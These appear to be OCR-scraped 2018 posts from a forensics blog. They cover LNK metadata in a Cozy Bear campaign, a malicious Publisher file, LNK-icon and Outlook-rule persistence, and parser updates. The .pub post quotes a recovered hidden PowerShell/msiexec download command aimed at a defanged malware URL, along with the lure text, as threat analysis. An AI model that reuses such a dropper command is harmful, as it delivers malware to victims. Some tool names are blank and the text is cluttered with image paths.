Saturday, December 29, 2018

Parsing the Cozy Bear LNK File

November 2018 saw a Cozy Bear/APT29 campaign, discussed in FireEye's blog post regarding APT29 activity (from 19 Nov 2018), as well as in this Yoroi blog regarding the Cozy Bear campaign (from 21 Nov 2018).  I found this particular campaign a bit fascinating, as it is another example of actors sending LNK files to their target victims, LNK files that had beencreated on a system other than the victim's.

However, one of the better (perhaps even the best) write-up regarding the LNK file deployed in this campaign is Oleg's description of his process for parsing that file.  His write-up is very comprehensive, so I won't steal any of his thunder by repeating it here.  Instead, I wanted to dig just a bit deeper into the LNK file structure itself.

Using my own parser, I extracted metadata from the LNK file structure for the "ds7002.lnk" file. The TrackerDataBlock includes much of the same information that Oleg uncovered, including the "machine ID", which is a 16-byte field containing the NetBIOS name of the system on which the LNK file was created:

Machine ID            : user-pc
New Droid ID Time     : Thu Oct  6 17:03:04 2016 UTC
New Droid ID Seq Num  : 13273
New Droid    Node ID  : 08:00:27:92:24:e5
Birth Droid ID Time   : Thu Oct  6 17:03:04 2016 UTC
Birth Droid ID Seq Num: 13273
Birth Droid Node ID   : 08:00:27:92:24:e5

From the TrackerDataBlock, we can also see one of the MAC addresses recognized by the system.  Using theOUI lookup tool from Wireshark, we see that the OUI for the displayed MAC address points to "PcsCompu PCS Computer Systems GmbH".  From WhatsMyIP, we get "Pcs Systemtechnik Gmbh".

Further, there's a SID located in the PropertyStoreDataBlock:

SID: S-1-5-21-1764276529-1526541935-4264456457-1000

Finally, there's the volume serial number embedded within the LNK file:

vol_sn             C4B2-BD1C

A combination of the volume serial number, maching ID, and the SID from the PropertyStoreDataBlock can be used to create a Yara rule, which can then be submitted as a retro-hunt on VirusTotal, in order to locate other examples of LNK files created on this system.

Note that the FireEye write-up mentions a previous campaign (described by Volexity) in which a similar LNK file was used.  In that case, MAC address, SID, and volume serial number were identical to the ones seen in the LNK file in the Nov 2018 campaign.  The file size was different, and the embedded PowerShell commandwas different, but the rest of the identifying metadata remained the same two years later.Another aspect of the LNK file from the Nov 2018 campaign is the embedded PowerShell command.  As Oleg pointed out, the PowerShell command itself is encoded, as a base64 string.  Or perhaps more accurately, a "base" + 0x40 encoded string.  The manner by which commands are obfuscated can be very telling, and perhaps even used as a means for tracking the evolution of the use of the technique.

This leads to another interesting aspect of this file; rather than using an encoded PowerShell command to download the follow-on payload(s), those payloads are included encoded within the logical structure of the file itself.  The delivered LNK file is over 400K in size (the LNK file from 2016 was over 660K), which is quite unusual for such a file, particularly given that theLNK file structure itself ends at offset 0x0d94, making the LNK file 3476 bytes in size.Oleg did a great job of walking through the collection, parsing and decoding/decryption of the embedded PDF and DLL files, as well as of writing up and sharing his process.  From a threat intel perspective, identifying information extracted from file metadata can be used to further the investigation and help build a clearer intel picture.

Addendum, 31 Dec: Here's a fascinating tweet thread regarding using DOSDate time stamps embedded in shellitems to identify "weaponization time" of the LNK file, and here's more of that conversation.

Friday, December 28, 2018

PUB File

Earlier this month, I saw a tweet that led me to this Trend Micro write-up regarding a spam campaign where the bad guys sent malicious MS Publisher .pub file attachments that downloaded an MSI file (using .pub files as lures has been seen before).  The write-up included a hash for the .pub file, which I was able to use to locate a copy of the file, so I could take a look at it myself.  MS Publisher files follow the OLE file format, so I wanted to take a shot at "peeling the onion" on this file, as it were.

Why would I bother doing this?  For one, I believe that there is a good bit of value that does unrealized when we don't look at artifacts like this, value that may not be immediatelyrealized by a #DFIR analyst, but may be much more useful to an intel analyst.

I should note that the .pub file is detected by Windows Defender as Trojan:O97M/Bynoco.PA.

The first thing I did was run 'strings' against the file.  Below are some of the more interesting strings I was able to find in the file:


Document created using the application not related to Microsoft Office

For viewing/editing, perform the following steps:
Click Enable editing button from the yellow bar above.
Once you have enabled editing, please click Enable Content button from the yellow bar above."-executionpolicy bypass -noprofile -w hidden  -c & ""msiexec"" url1=gmail url2=com  /q /i http://homeofficepage[.]com/TabSvc"

Shceduled update task

One aspect of string searches in OLE format files that analysts need to keep in mind is that the file structure truly is one of a "file system within a file", as the structure includes sector tables that identify the sectors that comprise the various streams within the file.  What this means is that the streams themselves are not contiguous, and that strings contained in the file may possibly be separated across the sectors.  For example, it is possible that for the string "alabama" listed above, part of the string (i.e., "ala") may exist in one sector, and the remaining portion of the string may exist in another sector, so that searching for the full string may not find all instances of it.  Further, with the use of macros, the macros themselves are compressed, throwing another monkey wrench into string searches.

Back to the strings themselves; I'm sure that you can see why I saw these as interesting strings.  Forexample, note the misspelling of "Shceduled".  This may be something on which we can pivot in our analysis, locating instances of a scheduled task with that same misspelling within our infrastructure.  Interestingly enough, when I ran a Google search for "shceduled task", most of the responses I got were legitimate posts where the author had misspelled the word.  ;-)

The message to the user seen in the strings above looks similar to figure 2 found in this write-up regarding Sofacy, but searching a bit further, we find the exact message string being used in lures that end up deploying ransomware.

Next, I ran '' against the file; below is the output, trimmed for readability:

Root Entry  Date: 20.11.2018, 14:40:11  CLSID: 00021201-0000-0000-00C0-000000000046
    1 D..       0 20.11.2018, 14:40:11 \Objects
    2 D..       0 20.11.2018, 14:40:11 \Quill
    3 D..       0 20.11.2018, 14:40:11 \Escher
    4 D..       0 20.11.2018, 14:40:11 \VBA
    7 F..   10602                                \Contents
    8 F.T      94                                  \CompObj
    9 F.T   16384                                \SummaryInformation
   10 F.T     152                                \DocumentSummaryInformation
   11 D..       0 20.11.2018, 14:40:11 \VBA\VBA
   12 D..       0 20.11.2018, 14:40:11 \VBA\crysler
   18 F..     387                                 \VBA\crysler\f
   19 F..     340                                 \VBA\crysler\o
   20 F.T      97                                 \VBA\crysler\CompObj
   21 F..     439\VBA\crysler\ VBFrame
   22 F..     777                                 \VBA\VBA\dir
   23 FM.    1431                              \VBA\VBA\crysler
   30 FM.    8799                              \VBA\VBA\ThisDocument
As you can see, there are a number of streams that include macros.  Also, from the output listed above, we can see that the file was likely created on 20 Nov 2018, which is something that can likely be used by intel analysts.

Using to extract the macros, we can see that they aren't obfuscated in any way.  In fact, the two visible macros are well-structured, and don't appear do much at all; the malicious functionality appears to embedded someplace else within the file itself.

Windows Artifacts and Threat Intel
I ran across a pretty fascinating tweet thread from Steve the other day.  In this thread, Steve talked about how he's used PDB paths to not just get some interesting information from malware, but to build out a profile of the malware author over a decade, and how he was able to pivot off of that information.  In the tweet thread, Steve provides some very interesting foundational information, as well as an example of how this information has been useful.  Unfortunately, it's in a tweet thread and not some more permanent format.

I still believe that something very similar can be done with LNK files sent by an adversary, as well as other "weaponized" documents.  This includes OLE-format Word and Publisher documents, as well.  Using similar techniques to what Steve employed, including Yara rules to conduct a VT retro-hunt, information can be built out using not just information collected from the individual files themselves, but information provided by VT, such as submission date, etc.

Wednesday, December 19, 2018

Hunting and Persistence

Sometimes when hunting, we need to dig a little deeper,particularly where the actor employs novel persistence mechanisms.  Persistence mechanisms that are activated by some means other than a system start or user login can be challenging for a hunter to root (pun intended) out.

During one particular hunting engagement, svchost.exe was seen communicating out to a known-bad IP address, and the hunters needed to find out a bit more about what might be the cause of that activity.  One suggestion was to determine the time frame or "temporal proximity" of the network activity to other significant events; specifically, determine whether something was causing svchost.exe to make these network connections, or find out if this activity was being observed "near" a system start.

As it turned out, the hunters in that case had access to data that had beencollected as part of the EDR installation process (i.e., collect data, install EDR agent), and were able to determine the true nature of the persistence.

Sometimes, persistence mechanisms aren't all that easy, nor straightforward to determine, particularly if the actor had established a foothold within the target infrastructure prior to instrumentation being put inplace.  It is also difficult to determine persistence within an infrastructure when complete visibility has not been achieved, and there are "nexus systems" that do not have the benefit of instrumentation.  The actor may be seen interacting with instrumented systems, but those systems may be ancillary to their activity, rather than the portal systems to which they continually return.

One persistence mechanism that may be difficult to uncover is the use of the "icon filename" field within Windows shortcut/LNK files.  Depending upon where the LNK file is located on the system (i.e., not in the user's StartUp folder), the initiation of the malicious network connection may not be within temporal proximity of the user logging into the system, making it more difficult to determine the nature of the persistence.  So how does this persistence mechanism work?  Per Rapid7, when a user accesses the shortcut/LNK file, SMB and WebDavconnections are initiated to the remote system.

Also, from here:

Echoing Stuxnet, the attackers manipulated LNK files (Windows shortcut files), to conduct malicious activities. In this case, they used LNK files to gather user credentials when the LNK file attempted to load its icon from a remote SMB server controlled by the attackers.

As you can see, this persistence method would then lead to the user's credentials being captured for cracking, meaning that the actor may be able return to the environment following a global password change. Be sure to check out this excellent post from Bohops that describes ways to collect credentials to be cracked.

Another persistent mechanism that may be difficult for hunters to suss out is the use of OutLook rules (description from MWR Labs, who also provide a command line tool for creating malicious OutLook rules, which includes a switch to display existing rules).  In short, an actor with valid credentials can access OWA and create an Outlook rule that, when the trigger email is received, can launch a PowerShell script to download and launch an executable, or open a reverse shell, or take just about any other action.  Again, this persistence mechanism is completely independent of remediation techniques, such as global password changes.

Additional Resources
MS recommendations to detect and remediate OutLook rules
Detecting OutLook rules WRT O365, from TechNet

Addendum, 21 Dec: FireEye blog post references SensePost's free tool for abusing Exchange servers and creating client-side mail rules.

Addendum, 24 Dec: Analysis of LNK file sent in the Cozy Bear campaign

Tuesday, December 18, 2018


Based on some testing that Phill had done, I recently updated my Recycle Bin index file ($I*, INFO2) parser.  Since then, there have been some other developments, and I wanted to document some additionalupdates.

We have seen recently that, apparently, as of Win10 1803 there have been changes made to the NTFSDisableLastAccessUpdate value in the Registry (David, Maxim).  In short, rather than the "yes" or "no" (i.e., "1" or "0") value data that we're used to seeing, there are a total of 4 options now.

I've updated the plugin accordingly.

Maxim shared some interesting insight into the SysCache.hve file recently.  This is a file whose structure follows that of Registry hive files (similar to the AmCache.hve file), and is apparently only found on Win7 systems.

There's some additional insight here (on Github) regarding the nature of the various values within some of the keys.

I created the plugin to parse this file, and to really make use of it, you need to also have the MFT from the system, as the SysCache.hve file does not record file names; rather, it records the MFT record number, which is a combination of the entry number and the sequence number for the file record within the MFT.

PowerShell Logging
